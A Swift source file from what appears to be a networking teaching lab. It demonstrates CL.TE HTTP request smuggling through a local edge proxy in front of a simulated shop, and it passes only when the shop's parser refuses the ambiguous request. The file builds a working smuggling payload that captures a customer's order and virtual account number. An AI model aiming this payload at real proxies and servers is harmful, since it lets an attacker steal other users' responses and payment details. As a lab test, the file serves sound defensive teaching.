import Foundation
import HTTPParser
import NetLab
import PaymentFlow
import TCPSocket
import TLSWrapper

/// Request smuggling (CL.TE) in a payment: an edge proxy that frames by Content-Length in front
/// of a shop whose HTTP parser lets Transfer-Encoding win. With NetLab's parser the shop refuses
/// the ambiguous request and nothing leaks; with a parser that accepts it (`lab demo
/// --http=student --scenario smuggling`), the attacker walks away with a customer's order.
extension DemoContext {
    func smuggling(_ customer: Customer) async throws -> DemoResult {
        let shop = try url(.merchant)
        guard let authority = try? HTTPURL(shop) else { throw Failure(description: "the shop's URL \(shop) does not parse") }
        var tls: TLSContext?
        if !plaintext, let ca = try running().caCertificatePath { tls = try TLSContext(.client(trustRootsFile: ca)) }
        let edge = try EdgeProxy(shopHost: authority.host, port: authority.port, tls: tls, serverName: authority.host)
        defer { Task { await edge.close() } }
        note("The shop's edge: a reverse proxy at http://\(edge.address) in front of the shop, one kept-alive connection to it", [
            "It frames every request by its Content-Length alone and passes Transfer-Encoding on unread — a CL.TE edge.",
            "Behind it, the shop parses with \(options.httpParser == nil ? "NetLab's parser" : "the parser under test (yours, in lab demo)").",
        ])

        let order = try await customer.order("batik", payment: ["type": "bank_transfer", "bank": "bca"])
        guard let va = order.va_number else { throw Failure(description: "no virtual account for the customer's order") }
        try await webhook(order.order_id, "pending")
        note("A customer ordered batik (Rp 450.000): order \(order.order_id), to be paid to BCA virtual account \(va)")

        let inner = "GET /products HTTP/1.1\r\nHost: shop\r\n\r\n"
        let body = "0\r\n\r\n" + inner
        let smuggle = "GET /products HTTP/1.1\r\nHost: shop\r\nContent-Length: \(body.utf8.count)\r\nTransfer-Encoding: chunked\r\n\r\n" + body
        let first = try await Self.ask(edge, smuggle)
        note("1. The attacker sends the edge one request with both Content-Length and Transfer-Encoding: chunked", [
            HTTPEventRendering.escaped(Array(smuggle.utf8)),
            "The edge reads \(body.utf8.count) bytes of body: one request. A shop that lets chunked win reads the body as ending at 0\\r\\n\\r\\n — and a second request after it.",
            "The attacker gets: \(Self.statusLine(first))",
        ])

        let victim = try await Self.ask(edge, "GET /orders/\(order.order_id) HTTP/1.1\r\nHost: shop\r\n\r\n")
        let victimGotOwn = Self.body(victim).contains(order.order_id)
        note("2. The customer checks the order through the edge", [
            "and gets: \(Self.statusLine(victim)) — " + (victimGotOwn ? "their own order" : "an answer meant for someone else: \(Self.body(victim).prefix(60))…"),
        ])

        let loot = try await Self.ask(edge, "GET /products HTTP/1.1\r\nHost: shop\r\n\r\n")
        let leaked = Self.body(loot).contains(order.order_id)
        note("3. The attacker asks the edge for the product list again", [
            "and gets: \(Self.statusLine(loot)) " + (leaked ? "— the customer's order, with its virtual account \(va)" : "— the product list, as asked"),
        ], outcome: leaked ? "smuggled" : "refused")

        if leaked {
            await conclude("Smuggled: one request to the edge was two to the shop, and every answer since has gone to the wrong client — the attacker has order \(order.order_id) and its virtual account. The shop's parser must refuse Content-Length with Transfer-Encoding (RFC 9112 §6.1, §11.2).", outcome: "smuggled")
            return DemoResult(succeeded: false, summary: "smuggling: the shop's parser accepted Content-Length with Transfer-Encoding; the attacker read order \(order.order_id)")
        }
        try require(victimGotOwn, "the customer did not get their own order back")
        await conclude("Refused: the shop answered the ambiguous request 400 and closed the connection (RFC 9112 §6.1), so nothing was smuggled and every client got its own answer.", outcome: "refused")
        return DemoResult(succeeded: true, summary: "smuggling: the shop refused Content-Length with Transfer-Encoding; nothing was smuggled")
    }

    /// One request to the edge on a connection of its own; the answer, framed the edge's way.
    static func ask(_ edge: EdgeProxy, _ request: String) async throws -> [UInt8] {
        let connection = try await AsyncTCPConnection.connect(to: edge.address, timeout: .seconds(5))
        defer { Task { await connection.close() } }
        try await connection.write(Array(request.utf8), deadline: .after(.seconds(10)))
        var buffer: [UInt8] = []
        return try await EdgeProxy.message(from: connection, buffer: &buffer) ?? []
    }

    static func statusLine(_ response: [UInt8]) -> String {
        String(decoding: response.prefix { $0 != 0x0D }, as: UTF8.self)
    }

    static func body(_ response: [UInt8]) -> String {
        let text = String(decoding: response, as: UTF8.self)
        return text.range(of: "\r\n\r\n").map { String(text[$0.upperBound...]) } ?? ""
    }
}
